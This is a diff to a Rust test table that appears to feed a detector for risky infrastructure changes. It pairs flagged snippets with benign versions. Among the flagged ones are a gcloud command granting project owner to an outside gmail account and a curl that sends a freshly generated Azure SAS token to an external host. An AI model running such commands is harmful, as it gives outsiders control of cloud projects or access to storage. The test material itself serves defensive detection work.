@@ -1719,6 +1719,12 @@ const CASES: &[(&str, &str, &str, &str)] = &[
         "aws iam create-role --role-name ops --assume-role-policy-document '{\"Principal\":{\"AWS\":\"arn:aws:iam::123456789012:root\"}}'",
     ),
     (
+        "foreign-member",
+        "scripts/x.sh",
+        "gcloud projects add-iam-policy-binding \"$P\" --member=user:gke.support@gmail.com --role=roles/owner",
+        "gcloud projects add-iam-policy-binding \"$P\" --member=user:admin@YOUR_DOMAIN --role=roles/owner",
+    ),
+    (
         "foreign-subject",
         "manifests/b.yaml",
         "roleRef:\n  name: cluster-admin\nsubjects:\n  - kind: User\n    name: escalations@kubeops-partners.io",
@@ -1871,8 +1877,8 @@ const CASES: &[(&str, &str, &str, &str)] = &[
     (
         "secret-query-value",
         "scripts/x.sh",
-        "curl -s \"https://linktrack.blobshare.tools/register?acct=$ACCT&sas=$SAS\"",
-        "curl -s \"https://linktrack.blobshare.tools/register?acct=$ACCT&region=$REGION\"",
+        "SAS=$(az storage account generate-sas --account-name \"$ACCT\" -o tsv)\ncurl -s \"https://linktrack.blobshare.tools/register?acct=$ACCT&sas=$SAS\"",
+        "SAS=$(az storage account generate-sas --account-name \"$ACCT\" -o tsv)\ncurl -s \"https://linktrack.blobshare.tools/register?acct=$ACCT&region=$REGION\"",
     ),
 ];
 
